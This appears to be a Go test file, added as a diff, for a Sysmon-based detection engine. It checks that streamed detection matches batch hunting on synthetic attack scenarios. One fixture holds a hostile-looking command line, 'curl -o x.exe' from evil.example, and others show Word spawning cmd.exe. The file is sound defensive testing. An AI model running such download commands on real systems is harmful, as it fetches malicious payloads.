@@ -1,0 +1,334 @@
+package detect_test
+
+import (
+	"bufio"
+	"context"
+	"encoding/json"
+	"math/rand/v2"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/prometheus/client_golang/prometheus"
+
+	"github.com/vigil-detect/vigil/advisory"
+	"github.com/vigil-detect/vigil/alert"
+	"github.com/vigil-detect/vigil/engine"
+	"github.com/vigil-detect/vigil/event"
+	"github.com/vigil-detect/vigil/hunt"
+	"github.com/vigil-detect/vigil/serve/detect"
+)
+
+var t0 = time.Date(2026, 3, 4, 9, 15, 0, 0, time.UTC)
+
+const (
+	cmdExe = `C:\Windows\System32\cmd.exe`
+	word   = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
+	bat    = `cmd.exe /c "C:\Users\jdoe\AppData\Local\Temp\update.bat"`
+)
+
+// ev builds a Sysmon event of a host at t0+sec, as the advisory's scenario
+// tests do.
+func ev(host string, sec float64, m map[string]any) string {
+	m["Channel"] = "Microsoft-Windows-Sysmon/Operational"
+	m["Computer"] = host
+	m["@timestamp"] = t0.Add(time.Duration(sec * float64(time.Second))).Format(time.RFC3339Nano)
+	b, _ := json.Marshal(m)
+	return string(b)
+}
+
+func start(host string, sec float64, guid, image, cmdline, parent string) string {
+	return ev(host, sec, map[string]any{"EventID": 1, "ProcessGuid": guid, "ProcessId": 7212, "Image": image,
+		"OriginalFileName": filepath.Base(strings.ReplaceAll(image, `\`, "/")), "CommandLine": cmdline,
+		"ParentImage": parent, "ParentProcessGuid": "{P}", "ParentCommandLine": parent})
+}
+
+func conn(host string, sec float64, guid, image, ip string) string {
+	return ev(host, sec, map[string]any{"EventID": 3, "ProcessGuid": guid, "ProcessId": 7212, "Image": image,
+		"DestinationIp": ip, "DestinationPort": 443, "Protocol": "tcp", "Initiated": "true"})
+}
+
+// scenarios are the advisory's scenarios (advisory/scenario_test.go), one
+// host each, plus the bundled example.
+func scenarios(t testing.TB) []string {
+	type sc func(h, g string) []string
+	cases := []sc{
+		func(h, g string) []string {
+			return []string{start(h, 0, g, cmdExe, bat, `C:\Windows\explorer.exe`), conn(h, 3, g, cmdExe, "185.199.110.153")}
+		},
+		func(h, g string) []string {
+			return []string{start(h, 0, g, cmdExe, `cmd /K whoami`, word), conn(h, 5, g, cmdExe, "8.8.8.8")}
+		},
+		func(h, g string) []string {
+			return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 1, g, cmdExe, "8.8.8.8")}
+		},
+		func(h, g string) []string {
+			return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 15, g, cmdExe, "8.8.8.8")}
+		},
+		func(h, g string) []string {
+			return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 15.5, g, cmdExe, "8.8.8.8")}
+		},
+		func(h, g string) []string {
+			return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 1, g+"x", cmdExe, "8.8.8.8")}
+		},
+		func(h, g string) []string {
+			return []string{conn(h, 0, g, cmdExe, "8.8.8.8"), start(h, 1, g, cmdExe, bat, word)}
+		},
+		func(h, g string) []string {
+			return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 1, g, cmdExe, "8.8.8.8"), conn(h, 2, g, cmdExe, "8.8.4.4"), conn(h, 3, g, cmdExe, "1.1.1.1")}
+		},
+		func(h, g string) []string {
+			return []string{conn(h, 3, g, cmdExe, "1.1.1.1"), conn(h, 2, g, cmdExe, "8.8.4.4"), start(h, 0, g, cmdExe, bat, word)}
+		},
+		func(h, g string) []string {
+			return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 1, g, cmdExe, "10.1.2.3")}
+		},
+		func(h, g string) []string {
+			return []string{start(h, 0, g, cmdExe, bat, ""), conn(h, 1, g, cmdExe, "2606:4700:4700::1111")}
+		},
+		func(h, g string) []string {
+			return []string{start(h, 0, g, cmdExe, `CMD.EXE /C curl -o x.exe HTTPS://evil.example/x.exe`, `C:\Windows\explorer.exe`), conn(h, 1, g, cmdExe, "93.184.216.34")}
+		},
+		// ancestry: Explorer, Word, cmd
+		func(h, g string) []string {
+			return []string{
+				ev(h, 0, map[string]any{"EventID": 1, "ProcessGuid": g + "E", "Image": `C:\Windows\explorer.exe`, "CommandLine": "explorer.exe"}),
+				ev(h, 1, map[string]any{"EventID": 1, "ProcessGuid": g + "W", "ParentProcessGuid": g + "E", "Image": word, "CommandLine": "winword.exe doc.docm"}),
+				ev(h, 2, map[string]any{"EventID": 1, "ProcessGuid": g, "ParentProcessGuid": g + "W", "Image": cmdExe, "CommandLine": "cmd.exe /c a.bat", "ParentImage": word}),
+				conn(h, 3, g, cmdExe, "8.8.8.8"),
+			}
+		},
+	}
+	var lines []string
+	for i, c := range cases {
+		h := "ws-" + string(rune('a'+i))
+		// Scenarios 25 s apart: a partition's watermark moves on
+		// between them.
+		for _, l := range c(h, "{G-"+h+"}") {
+			lines = append(lines, shift(t, l, time.Duration(i)*25*time.Second))
+		}
+	}
+	f, err := os.Open("../../testdata/example/events.jsonl")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	lr := bufio.NewScanner(f)
+	for lr.Scan() {
+		if l := strings.TrimSpace(lr.Text()); l != "" {
+			lines = append(lines, l)
+		}
+	}
+	return lines
+}
+
+// shift moves an event's @timestamp by d.
+func shift(t testing.TB, line string, d time.Duration) string {
+	var m map[string]any
+	if err := json.Unmarshal([]byte(line), &m); err != nil {
+		t.Fatal(err)
+	}
+	m["@timestamp"] = timeOf(t, line).Add(d).Format(time.RFC3339Nano)
+	b, err := json.Marshal(m)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(b)
+}
+
+func timeOf(t testing.TB, line string) time.Time {
+	var m struct {
+		TS time.Time `json:"@timestamp"`
+	}
+	if err := json.Unmarshal([]byte(line), &m); err != nil {
+		t.Fatal(err)
+	}
+	return m.TS
+}
+
+// shuffleWithin reorders lines randomly, no line moving more than d of
+// event time behind a later one.
+func shuffleWithin(t testing.TB, lines []string, d time.Duration, rng *rand.Rand) []string {
+	type k struct {
+		key  time.Time
+		line string
+	}
+	ks := make([]k, len(lines))
+	for i, l := range lines {
+		ks[i] = k{timeOf(t, l).Add(time.Duration(rng.Int64N(int64(d)))), l}
+	}
+	slices.SortFunc(ks, func(a, b k) int { return a.key.Compare(b.key) })
+	out := make([]string, len(ks))
+	for i, x := range ks {
+		out[i] = x.line
+	}
+	return out
+}
+
+// ticks are one event per host an hour after the last: they match nothing
+// and move each partition's watermark past every window.
+func ticks(t testing.TB, lines []string) []string {
+	var last time.Time
+	hosts := map[string]bool{}
+	for _, l := range lines {
+		if tt := timeOf(t, l); tt.After(last) {
+			last = tt
+		}
+		hosts[hostOf(l)] = true
+	}
+	var out []string
+	for h := range hosts {
+		b, _ := json.Marshal(map[string]any{"@timestamp": last.Add(time.Hour).Format(time.RFC3339Nano), "Channel": "Application", "EventID": 9999, "Computer": h})
+		out = append(out, string(b))
+	}
+	slices.Sort(out)
+	return out
+}
+
+type collect struct{ alerts []*alert.Alert }
+
+func (c *collect) Write(a *alert.Alert) error { c.alerts = append(c.alerts, a); return nil }
+func (c *collect) Close() error               { return nil }
+
+// huntAlerts runs vigil hunt's pipeline over lines and returns its alerts
+// in normalized form.
+func huntAlerts(t testing.TB, r *detect.Rules, lines []string) []string {
+	var out collect
+	if _, err := huntRun(r, writeLines(t, lines), &out, huntOptions(r)); err != nil {
+		t.Fatal(err)
+	}
+	var norm []string
+	for _, a := range out.alerts {
+		b, err := json.Marshal(a)
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, n := normalize(t, b)
+		norm = append(norm, n)
+	}
+	return norm
+}
+
+// huntOptions are vigil hunt's options for rules.
+func huntOptions(r *detect.Rules) hunt.Options {
+	opts := hunt.Options{Workers: 2, Normalizer: r.Normalizer, Correlations: r.Correlations}
+	if r.Advisory {
+		en := advisory.NewEnricher()
+		opts.Enrich = en.Enrich
+		opts.Context = func(r *engine.Rule) bool { return advisory.IsContextRule(r.Sigma) }
+		opts.Observe = func(_ *engine.Rule, e *event.Event) { en.Record(advisory.ProcessOf(e)) }
+	}
+	return opts
+}
+
+func huntRun(r *detect.Rules, path string, out alert.Writer, opts hunt.Options) (hunt.Stats, error) {
+	return hunt.Run(context.Background(), r.Engine, []string{path}, out, opts)
+}
+
+// serveAlerts returns the alerts stream's alerts, normalized, and checks
+// that their ids are distinct.
+func serveAlerts(t testing.TB, raw [][]byte) (norm []string, ids map[string]bool) {
+	ids = map[string]bool{}
+	for _, b := range raw {
+		id, n := normalize(t, b)
+		if len(id) != 32 {
+			t.Errorf("alert id %q", id)
+		}
+		if ids[id] {
+			t.Errorf("alert id %s twice in the alerts stream", id)
+		}
+		ids[id] = true
+		norm = append(norm, n)
+	}
+	return norm, ids
+}
+
+// TestScenariosShuffled streams the advisory's scenarios and the example,
+// shuffled within the lateness, through a worker, and requires vigil
+// hunt's alerts on the same events, each with a distinct id.
+func TestScenariosShuffled(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+	defer cancel()
+	events := scenarios(t)
+	tick := ticks(t, events)
+	lines := append(slices.Clone(events), tick...)
+	for _, rules := range []struct {
+		name    string
+		builtin bool
+		paths   []string
+	}{{"advisory", true, nil}, {"example rules and advisory", true, []string{"../../testdata/example/rules"}}} {
+		t.Run(rules.name, func(t *testing.T) {
+			r := loadRules(t, rules.builtin, rules.paths...)
+			want := huntAlerts(t, r, lines)
+			if len(want) < 8 {
+				t.Fatalf("hunt gives %d alerts: the scenarios prove little", len(want))
+			}
+			srv := startServer(t, t.TempDir())
+			_, js := connect(t, srv.ClientURL())
+			const n = 4
+			if err := createStreams(ctx, js, n, 1); err != nil {
+				t.Fatal(err)
+			}
+			reg := prometheus.NewRegistry()
+			w, err := detect.New(ctx, js, r, detect.Options{Failover: 3 * time.Second, SnapshotInterval: 200 * time.Millisecond, Registerer: reg})
+			if err != nil {
+				t.Fatal(err)
+			}
+			wctx, stop := context.WithCancel(ctx)
+			done := make(chan error, 1)
+			go func() { done <- w.Run(wctx) }()
+			defer func() {
+				stop()
+				if err := <-done; err != nil {
+					t.Error(err)
+				}
+			}()
+			rng := rand.New(rand.NewPCG(1, uint64(len(rules.paths))))
+			body := append(shuffleWithin(t, events, 20*time.Second, rng), tick...)
+			if _, err := publish(ctx, js, n, body); err != nil {
+				t.Fatal(err)
+			}
+			waitCommitted(t, ctx, js, n, int64(len(body)), 30*time.Second)
+			raw, err := readAlerts(ctx, js)
+			if err != nil {
+				t.Fatal(err)
+			}
+			got, _ := serveAlerts(t, raw)
+			t.Logf("%d events, %d alerts from hunt, %d from serve", len(body), len(want), len(got))
+			if g, w := sortedLines(got), sortedLines(want); g != w {
+				t.Errorf("serve's alerts differ from hunt's\nserve:\n%s\nhunt:\n%s", g, w)
+			}
+			if v := metricSum(t, reg, "vigil_events_evaluated_total"); v != float64(len(body)) {
+				t.Errorf("vigil_events_evaluated_total %v, want %d", v, len(body))
+			}
+		})
+	}
+}
+
+// metricSum sums a metric's series in a registry.
+func metricSum(t testing.TB, reg *prometheus.Registry, name string) float64 {
+	mfs, err := reg.Gather()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var sum float64
+	for _, mf := range mfs {
+		if mf.GetName() != name {
+			continue
+		}
+		for _, m := range mf.GetMetric() {
+			switch {
+			case m.Counter != nil:
+				sum += m.Counter.GetValue()
+			case m.Gauge != nil:
+				sum += m.Gauge.GetValue()
+			case m.Histogram != nil:
+				sum += float64(m.Histogram.GetSampleCount())
+			}
+		}
+	}
+	return sum
+}
